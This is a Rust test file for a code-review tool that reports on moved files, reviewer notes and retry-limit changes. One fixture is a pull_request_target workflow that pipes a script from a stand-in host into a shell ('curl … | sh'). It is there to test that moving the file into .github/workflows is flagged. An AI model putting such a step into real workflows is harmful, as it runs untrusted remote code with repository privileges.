//! How rules and counts treat files that moved.

use crate::run;
use crate::support::{Decision, Fixture, policy};
use undersign::decision::{Note, Verdict};

fn retries(tries: u32) -> String {
    (1..=90).map(|n| format!("key{n}: value{n}\n")).collect::<String>() + &format!("retry:\n  max_attempts: {tries}\n")
}

/// A branch that moves a file, and may change its number of tries.
fn moved(from: &str, to: &str, tries: u32) -> Fixture {
    let f = Fixture::with_policy(&policy(""));
    f.write(from, &retries(3));
    f.commit("rahim", "A file");
    f.git("mina", &["checkout", "-q", "-b", "move", "main"]);
    f.git("mina", &["rm", "-q", from]);
    f.write(to, &retries(tries));
    f.commit("mina", "Move it");
    f
}

#[test]
fn rules_compare_across_a_move_and_say_nothing_of_one_that_changes_nothing() {
    let f = moved("svc/conf/app.yaml", "svc/settings/app.yaml", 9000);
    run(&f, &["show", "move"])
        .exits(0)
        .says("1 file, +1 −1")
        .says("resil.limit-lost       svc/settings/app.yaml:92")
        .says("moved: 1 file")
        .says("svc/conf/app.yaml → svc/settings/app.yaml, and changed");
    let f = moved("svc/conf/app.yaml", "svc/settings/app.yaml", 3);
    run(&f, &["show", "move"])
        .exits(0)
        .says("1 file, +0 −0")
        .says("findings: 0")
        .says("app.yaml → svc/settings/app.yaml\n");
}

#[test]
fn what_moves_to_where_it_means_something_else_is_seen_as_new() {
    let f = Fixture::with_policy(&policy(""));
    let workflow = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: curl https://x.example/i.sh | sh\n";
    f.write("notes/a.txt", workflow);
    f.commit("rahim", "A note");
    f.git("mina", &["checkout", "-q", "-b", "move", "main"]);
    std::fs::create_dir_all(f.repo.join(".github/workflows")).unwrap();
    f.git("mina", &["mv", "notes/a.txt", ".github/workflows/a.yml"]);
    f.commit("mina", "Move it");
    let said = run(&f, &["show", "move"]).exits(0).says("2 files, +5 −5").says("notes/a.txt → .github/workflows/a.yml");
    assert!(!said.out.contains("findings: 0") && said.out.contains(".github/workflows/a.yml:5"), "{}", said.out);
}

#[test]
fn what_moves_to_where_a_tool_looks_for_it_is_read_in_full_and_elsewhere_it_is_one_entry() {
    for (to, files) in [("other", "2 files"), ("dags", "4 files"), ("plugins", "4 files"), ("hooks", "4 files")] {
        let f = Fixture::with_policy(&policy(""));
        f.write("data/x.py", &"import os\n".repeat(40));
        f.write("data/x.jar", &"\0\u{1}".repeat(400));
        f.commit("rahim", "Data");
        f.git("mina", &["checkout", "-q", "-b", "move", "main"]);
        f.git("mina", &["mv", "data", to]);
        f.commit("mina", "Move it");
        run(&f, &["show", "move"]).exits(0).says(files);
    }
}

#[test]
fn a_note_on_the_old_side_of_a_moved_file_is_quoted_from_where_it_lay() {
    let f = moved("svc/conf/app.yaml", "svc/settings/app.yaml", 9000);
    let path = "svc/settings/app.yaml".to_owned();
    let notes = vec![Note { path, old_side: true, line: 92, text: "Was fine.".into(), ..Note::default() }];
    let record = f.take(Decision { notes, ..Decision::new("rahim", "move", Verdict::Reject) });
    let id = record.id().to_string();
    let json = run(&f, &["record", "show", &id, "--for-agent", "--json"]).exits(0).json();
    assert_eq!(json["notes"][0]["quote"], "  max_attempts: 3");
}

#[test]
fn a_note_on_lines_of_a_commit_that_is_not_here_says_so_to_an_agent() {
    let f = moved("svc/conf/app.yaml", "svc/settings/app.yaml", 9000);
    let path = || "svc/settings/app.yaml".to_owned();
    let on = |line| Note { path: path(), line, text: "Why?".into(), ..Note::default() };
    let gone = Note { old_side: true, ..on(0) };
    let record = f.take(Decision { notes: vec![on(92), gone], ..Decision::new("rahim", "move", Verdict::Reject) });
    let (id, head) = (record.id().to_string(), f.id("move"));
    let told = run(&f, &["record", "show", &id, "--for-agent"]).exits(0).says("The code there:");
    assert!(!told.out.contains("not here") && !told.out.contains("a line that was removed"), "{}", told.out);
    f.git("mina", &["checkout", "-q", "main"]);
    f.git("mina", &["branch", "-q", "-D", "move"]);
    f.git("mina", &["reflog", "expire", "--expire=now", "--all"]);
    f.git("mina", &["gc", "-q", "--prune=now"]);
    let told = format!("they are in commit {}, which is not here", &head.to_string()[..12]);
    run(&f, &["record", "show", &id, "--for-agent"]).exits(0).says(&told);
    let json = run(&f, &["record", "show", &id, "--for-agent", "--json"]).exits(0).json();
    assert!(json["notes"][0]["quote"].is_null() && json["notes"][0]["no_quote"].as_str().unwrap().contains(&told));
    assert!(json["notes"][1]["no_quote"].is_null(), "a note on the file has no lines");
}

#[test]
fn code_that_moves_between_folders_whose_names_say_nothing_is_one_entry_and_elsewhere_it_is_read() {
    let code = |n: u32| (1..=40).map(|line| format!("let x{line} = {n};\n")).collect::<String>();
    let f = Fixture::with_policy(&policy(""));
    for n in 1..=3 {
        f.write(&format!("lib/m{n}.rs"), &code(n));
    }
    f.write(".gitlab-ci.yaml", &code(8));
    f.commit("rahim", "Code");
    f.git("mina", &["checkout", "-q", "-b", "move", "main"]);
    f.git("mina", &["mv", "lib", "pkg"]);
    f.commit("mina", "Move it");
    let said = run(&f, &["show", "move"]).exits(0).says("3 files, +0 −0").says("findings: 0").says("moved: 3 files");
    assert!(said.out.contains("B2 lib/m1.rs: is shared by several packages"), "the reach is that of both: {said:?}");
    f.git("mina", &["mv", ".gitlab-ci.yaml", ".gitlab-ci.yml"]);
    f.commit("mina", "Run it");
    run(&f, &["show", "move"]).exits(0).says("5 files, +40 −40");
    f.git("mina", &["mv", "pkg", "plugins"]);
    f.commit("mina", "Load it");
    run(&f, &["show", "move"]).exits(0).says("8 files, +160 −160");
}

#[test]
fn a_text_in_utf_16_that_moved_and_changed_is_one_entry() {
    let wide = |text: &str| format!("\u{FEFF}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let f = Fixture::with_policy(&policy(""));
    std::fs::create_dir_all(f.repo.join("notes")).unwrap();
    std::fs::write(f.repo.join("notes/a.txt"), wide(&retries(3))).unwrap();
    f.commit("rahim", "Notes");
    f.git("mina", &["checkout", "-q", "-b", "move", "main"]);
    f.git("mina", &["mv", "notes/a.txt", "notes/b.txt"]);
    std::fs::write(f.repo.join("notes/b.txt"), wide(&retries(4))).unwrap();
    f.commit("mina", "Move it");
    run(&f, &["show", "move"]).exits(0).says("1 file, +1 −1").says("notes/a.txt → notes/b.txt, and changed");
}

#[test]
fn of_many_moved_files_those_that_changed_are_named_first() {
    let f = Fixture::with_policy(&policy(""));
    let text = |n: usize| format!("Chapter {n}\n").repeat(20);
    (0..14).for_each(|n| f.write(&format!("book/{n:02}.txt"), &text(n)));
    f.commit("rahim", "Write");
    f.git("mina", &["checkout", "-q", "-b", "move", "main"]);
    f.git("mina", &["mv", "book", "print"]);
    f.write("print/13.txt", &(text(13) + "The end\n"));
    f.git("mina", &["add", "-A"]);
    f.git("mina", &["update-index", "--chmod=+x", "print/12.txt"]);
    f.git("mina", &["commit", "-q", "-m", "Move"]);
    run(&f, &["show", "move"])
        .exits(0)
        .says(
            "moved: 14 files\n    book/12.txt → print/12.txt, and changed\n    book/13.txt → print/13.txt, and changed",
        )
        .says("and 4 more");
}

#[test]
fn a_link_that_became_a_file_is_not_asked_where_it_points() {
    let f = Fixture::new();
    f.git("mina", &["branch", "-q", "-D", "agent/work"]);
    std::os::unix::fs::symlink("README.md", f.repo.join("link")).unwrap();
    f.commit("rahim", "A link");
    f.git("mina", &["checkout", "-q", "-b", "topic"]);
    std::fs::remove_file(f.repo.join("link")).unwrap();
    f.write("link", "# shop\n");
    f.commit("mina", "A file");
    f.git("mina", &["checkout", "-q", "main"]);
    run(&f, &["show", "topic"]).exits(0).says("A symlink became a file").says_not("Where does it point");
    // The twins: another link, and a new one.
    f.git("mina", &["checkout", "-q", "topic"]);
    std::fs::remove_file(f.repo.join("link")).unwrap();
    std::os::unix::fs::symlink("src", f.repo.join("link")).unwrap();
    f.commit("mina", "Elsewhere");
    f.git("mina", &["checkout", "-q", "main"]);
    run(&f, &["show", "topic"]).exits(0).says("Where does it point").says_not("became a file");
}

/// A change of some files: path, before and after.
fn changed(files: &[(&str, Option<&str>, Option<&str>)]) -> Fixture {
    let f = Fixture::new();
    f.git("mina", &["branch", "-q", "-D", "agent/work"]);
    for (path, before, _) in files {
        before.iter().for_each(|text| f.write(path, text));
    }
    f.commit("rahim", "Before");
    f.git("mina", &["checkout", "-q", "-b", "topic"]);
    for (path, _, after) in files {
        match after {
            Some(text) => f.write(path, text),
            None => std::fs::remove_file(f.repo.join(path)).unwrap(),
        }
    }
    f.commit("mina", "After");
    f.git("mina", &["checkout", "-q", "main"]);
    f
}

#[test]
fn a_limit_that_another_file_has_since_with_a_higher_value_is_found() {
    let long = |retry: &str| (1..=40).map(|n| format!("key{n}: value{n}\n")).collect::<String>() + retry;
    let retry = |tries: u32| format!("retry:\n  max_attempts: {tries}\n  backoff: 2s\n");
    let small = |tries: u32| format!("max_attempts: {tries}\ntimeout: 5s\n");
    let json =
        |tries: u32| format!("{{\n \"name\": \"worker\",\n \"retry\": {{\n  \"max_attempts\": {tries}\n }}\n}}\n");
    let yaml = "name: worker\nretry:\n  max_attempts: 3\n";
    for (tries, is_found) in [(9_000, true), (3, false)] {
        let (own, moved, other) = (long(&retry(3)), retry(tries), json(tries));
        let without = long("");
        for (files, whereabouts) in [
            (vec![("conf/w.yaml", Some(&*small(3)), None), ("conf/retry.yaml", None, Some(&*small(tries)))], "conf/"),
            (vec![("conf/w.yaml", Some(yaml), None), ("conf/w.json", None, Some(&*other))], "conf/w"),
            (vec![("conf/w.yaml", Some(&*own), Some(&*without)), ("conf/r.yaml", None, Some(&*moved))], "conf/"),
        ] {
            let said = run(&changed(&files), &["show", "topic"]).exits(0);
            assert_eq!(said.out.contains("max_attempts 3 → 9000"), is_found, "{files:?}: {said:?}");
            let told = said.out.contains(&format!("; it was in {whereabouts}"))
                || said.out.contains(&format!("; it is in {whereabouts}"));
            assert_eq!(told, is_found, "{files:?}: {said:?}");
        }
    }
    // The twin: two of that name came, and which of them it is cannot be said.
    let (own, without, moved) = (long(&retry(3)), long(""), retry(9_000));
    let files = [
        ("conf/w.yaml", Some(&*own), Some(&*without)),
        ("conf/a.yaml", None, Some(&*moved)),
        ("conf/b.yaml", None, Some(&*moved)),
    ];
    run(&changed(&files), &["show", "topic"]).exits(0).says_not("3 → 9000");
}
